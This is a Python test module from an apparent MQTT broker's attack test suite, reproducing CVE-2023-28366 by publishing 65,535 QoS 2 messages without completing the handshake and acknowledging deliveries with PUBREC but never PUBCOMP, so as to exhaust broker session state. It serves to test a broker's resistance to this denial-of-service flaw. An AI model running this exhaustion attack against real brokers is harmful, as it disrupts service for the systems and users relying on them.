"""QoS 2 exchanges that are never completed, in both directions (CVE-2023-28366)."""

from __future__ import annotations

from typing import ClassVar, Final, final

from mesh.wire.packets import MQTT311, PUBREC, Ack, Publish, SubAck, Subscribe, Subscription
from tests.attacks.attack import Attack, publish_all

MESSAGES: Final = 65_535
DELIVERIES: Final = 1000
_WINDOW: Final = 500


@final
class UnfinishedQos2(Attack):
    about: ClassVar[str] = (
        f"a 3.1.1 vehicle publishes {MESSAGES:,} messages of QoS 2 and sends no PUBREL; another answers {DELIVERIES:,}"
        " deliveries with PUBREC, and never with PUBCOMP"
    )

    async def run(self) -> None:
        async with await self.vehicle("qos-2", MQTT311) as raw:
            answered = 0
            for number in range(1, self.full(MESSAGES) + 1):
                raw.say(Publish(self.target.topic("report/x"), b"x", 2, packet_id=number))
                if number % _WINDOW == 0:
                    await raw.flush()
                    while answered < number and isinstance(await raw.next(), Ack):
                        answered += 1
            self.count("identifiers left open", answered)
        topic = self.target.topic("cmd/qos-2")
        async with await self.vehicle("qos-2-receiver", expiry=600) as raw, await self.backend("qos-2") as sender:
            raw.say(Subscribe(1, [Subscription(topic, 2)]))
            await raw.find(SubAck)
            number = self.full(DELIVERIES)
            await publish_all(sender, (Publish(topic, b"x", 1) for _ in range(number)))
            while (packet := await raw.next(0.5)) is not None:
                if isinstance(packet, Publish):
                    self.count("deliveries")
                    raw.say(Ack(PUBREC, packet.packet_id) if packet.qos == 2 else b"")
        async with await self.vehicle("qos-2-receiver"):
            pass  # a clean start ends the session
